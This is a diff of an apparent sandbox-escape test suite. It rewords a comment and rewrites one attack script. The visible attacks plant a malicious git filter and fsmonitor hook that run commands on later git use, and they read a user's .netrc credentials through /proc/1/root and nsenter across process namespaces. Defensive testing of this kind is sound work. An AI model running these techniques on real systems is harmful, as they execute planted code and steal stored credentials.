@@ -494,7 +494,7 @@ const SYSCALL = 'python3 syscall.py'
 const EVIL_CONFIG = `git config filter.x.clean "touch '$PERSON/ran'; cat"; git config core.fsmonitor "touch '$PERSON/ran'; false"; echo '* filter=x' > .gitattributes`
 const COMMIT = 'git -c user.name=n -c user.email=e commit -q --allow-empty -m x'
 
-/** What a person, or Signalbox for them, does afterwards outside: compare files, look at changes. */
+/** A person, or Signalbox for them, compares files and looks at changes afterwards, outside. */
 const afterwards: Attack[] = [
   {
     id: 'git-config',
@@ -568,7 +568,7 @@ const kernel: Attack[] = [
     needs: 'nsenter',
     without: 'neither',
     script:
-      'cat "$PERSON/.netrc" "/proc/1/root$PERSON/.netrc"; for p in /proc/[0-9]*; do nsenter -t "${p#/proc/}" -U -m --preserve-credentials cat "$PERSON/.netrc"; nsenter -t "${p#/proc/}" -m cat "$PERSON/.netrc"; done 2>/dev/null',
+      'cat "$PERSON/.netrc" "/proc/1/root$PERSON/.netrc"; for p in $(ls /proc | grep "^[0-9]"); do nsenter -t $p -U -m --preserve-credentials cat "$PERSON/.netrc"; nsenter -t $p -m cat "$PERSON/.netrc"; done 2>/dev/null',
   },
 ]
 
